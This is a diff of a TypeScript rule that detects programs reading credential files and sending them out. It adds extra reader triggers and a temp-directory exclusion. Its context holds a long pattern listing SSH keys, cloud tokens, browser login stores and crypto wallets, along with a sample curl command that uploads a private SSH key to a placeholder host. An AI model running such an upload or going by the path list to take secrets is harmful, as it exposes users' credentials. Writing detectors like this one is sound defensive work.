@@ -1,5 +1,6 @@
 import { defineTextRule } from "../../text-rule.ts";
 import type { Judgement, Match } from "../../text-rule.ts";
+import { credentialReaders } from "./credential-readers.ts";
 import { family, SENDS } from "./family.ts";
 
 const CREDENTIAL_PATH = String.raw`(?:[~$\w{}()./\\"'+, -]{0,60}[/\\"'])?(?:\.ssh(?![a-z])(?:[/\\"', ]{1,8}(?:id_[a-z0-9]{2,12}|config|known_hosts|authorized_keys|\*))?|id_rsa|id_ed25519|id_ecdsa|\.aws[/\\"', ]{1,8}(?:credentials|config)|\.netrc|\.npmrc|\.pypirc|\.docker[/\\"', ]{1,8}config\.json|\.kube[/\\"', ]{1,8}config|\.config[/\\"', ]{1,8}(?:gcloud|gh)[/\\"', ]{1,8}\w{1,40}|application_default_credentials|\.git-credentials|\.gnupg|wallet\.dat|\.electrum|exodus\.wallet|\.bitcoin|keystore|metamask|nkbihfbeogaeaoehlefnkodbefgpgknn|Login Data|cookies\.sqlite|Cookies|logins\.json|key4\.db|Local State|Web Data|login\.keychain|keychain-db|\/etc\/shadow|\.bash_history|\.zsh_history|auth-profiles\.json|\.claude[/\\"', ]{1,8}\.credentials\.json|\.m2[/\\]settings(?:-security)?\.xml|\.gradle[/\\]gradle\.properties|\.password-store|\.azure[/\\]|\.cargo[/\\"', ]{1,8}credentials(?:\.toml)?|\.kaggle[/\\"', ]{1,8}kaggle\.json|Messages[/\\]chat\.db|\.config[/\\"', ]{1,8}solana[/\\"', ]{1,8}id\.json)`;
@@ -61,7 +62,10 @@ export const credentials = defineTextRule({
     caught: "cu{gap}rl -F file=@$HOME/.ssh/id_rsa https://x.example.invalid/\n",
     instead: "ssh-keygen -t ed25519 -f key\n",
   },
-  triggers: [{ anchors: CREDENTIAL_ANCHORS, behind: 60, pattern: new RegExp(CREDENTIAL_PATH, "giu"), judge: judgeCredentials }],
+  triggers: [
+    ...credentialReaders,
+    { anchors: CREDENTIAL_ANCHORS, behind: 60, pattern: new RegExp(CREDENTIAL_PATH, "giu"), judge: judgeCredentials },
+  ],
 });
 
 const READS =
@@ -72,6 +76,7 @@ const MANY_STORES =
 
 /** Reading and sending, both in one program. A text that only names the file, and tools that own it, are something else. */
 function judgeCredentials({ text, start, end, has, isNear, place }: Match): Judgement | null {
+  if (/\b(?:tmp_?path|tmp_?dir|tempfile|mkdtemp)\b/iu.test(text.slice(Math.max(0, start - 20), end))) return null;
   if (/\.pub\b/u.test(text.slice(end, end + 6)) || /known_hosts|\.ssh\/config|\.npmrc|keystore|cookies$/iu.test(text.slice(start, end)))
     return null;
   const line = `${place.linePrefix}${text.slice(start, end + 200).split("\n", 1)[0] ?? ""}`;
